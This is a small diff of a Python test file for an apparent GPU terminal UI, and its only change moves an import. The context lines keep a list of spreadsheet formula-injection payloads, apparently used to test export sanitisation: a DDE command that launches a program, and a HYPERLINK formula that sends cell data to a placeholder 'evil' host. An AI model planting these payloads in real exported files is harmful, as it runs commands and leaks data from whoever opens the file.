@@ -10,8 +10,8 @@ from pathlib import Path
 import pytest
 
 from gputui.models import Instance, Phase, Ref, Row
+from gputui.presentation.columns.column import Column, plain_text
 from gputui.screens.base.export import render, save_text
-from gputui.widgets.table.columns import Column, plain_text
 
 FORMULAS = ("=cmd|'/C calc'!A0", "+1+1", "-2+3", "@SUM(A1)", '=HYPERLINK("http://evil/"&A1)')
 
